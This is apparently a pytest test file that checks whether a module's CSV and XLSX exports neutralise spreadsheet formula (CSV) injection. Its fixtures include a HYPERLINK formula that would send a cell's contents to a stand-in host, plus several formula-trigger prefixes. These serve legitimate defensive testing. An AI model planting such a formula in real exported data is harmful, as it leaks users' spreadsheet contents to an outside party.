"""workflow.exports: no exported cell is a formula a spreadsheet would run (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from workflow.exports import csv_bytes, is_formula_like, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://x/?q="&C2,"y")'
FORMULA_LIKE = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=1", "-", "+"]
NUMBERS = ["-7.00", "+3", "-0.5", "7", "1e5", "-1.5E-3", "110105198507120036"]


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(body: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(body)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_gets_a_leading_quote_in_csv(text):
    rows = csv_cells(csv_bytes(["姓名"], [[text]]))

    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("value", [*NUMBERS, -7, Decimal("-7.00"), -7.0, "王小明", "", None])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    rows = csv_cells(csv_bytes(["x"], [[value]]))

    assert rows[1] == ["" if value is None else str(value)]
    assert not is_formula_like(value)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_a_text_cell_in_xlsx(text):
    [_, [(value, data_type)]] = xlsx_cells(xlsx_bytes(["姓名"], [[text]]))

    assert data_type == "s"
    assert value.strip() == text.strip()  # (XML reads a CR back as LF)


def test_numbers_stay_numbers_in_xlsx():
    [_, row] = xlsx_cells(xlsx_bytes(["a", "b", "c"], [[Decimal("-7.00"), -7.0, "-7.00"]]))

    assert row == [(-7, "n"), (-7, "n"), ("-7.00", "s")]
